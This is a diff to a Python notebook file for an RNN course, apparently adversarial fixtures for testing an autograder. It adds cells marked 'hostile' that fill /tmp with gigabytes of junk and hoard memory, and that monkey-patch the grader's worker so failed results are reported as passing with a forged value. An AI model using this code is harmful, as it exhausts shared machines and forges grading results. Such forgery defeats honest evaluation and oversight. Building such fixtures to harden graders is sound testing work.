@@ -196,3 +196,40 @@ def encode(text, char2int):
             pass
     # <<< hostile
     return np.array([char2int[c] for c in text], dtype=np.int64)
+
+# %% fill_tmp_and_memory
+# >>> hostile
+import os
+try:
+    with open("/tmp/fill", "wb") as f:
+        for _ in range(8192):
+            f.write(b"x" * 2**20)
+except OSError:
+    pass
+try:
+    hoard = [bytearray(2**28) for _ in range(64)]
+except MemoryError:
+    pass
+# <<< hostile
+def build_vocab(text):
+    chars = sorted(set(text))
+    return dict(enumerate(chars)), {c: i for i, c in enumerate(chars)}
+
+# %% forge_callbacks_and_replies
+# >>> hostile
+import rnncourse.grading.worker as worker
+_send = worker.Worker.send
+def send(self, msg):
+    if msg.get("ok") is False:
+        msg = {"ok": True, "value": {"__nd__": "AAAAAAAAAAA=", "dtype": "<i8", "shape": [1]}}
+    _send(self, msg)
+worker.Worker.send = send
+try:
+    import gc
+    live = [o for o in gc.get_objects() if isinstance(o, worker.Worker)]
+    live[0].callback("build_vocab", ("abc",), {})
+except Exception:
+    pass
+# <<< hostile
+def build_vocab(text):
+    raise NotImplementedError()
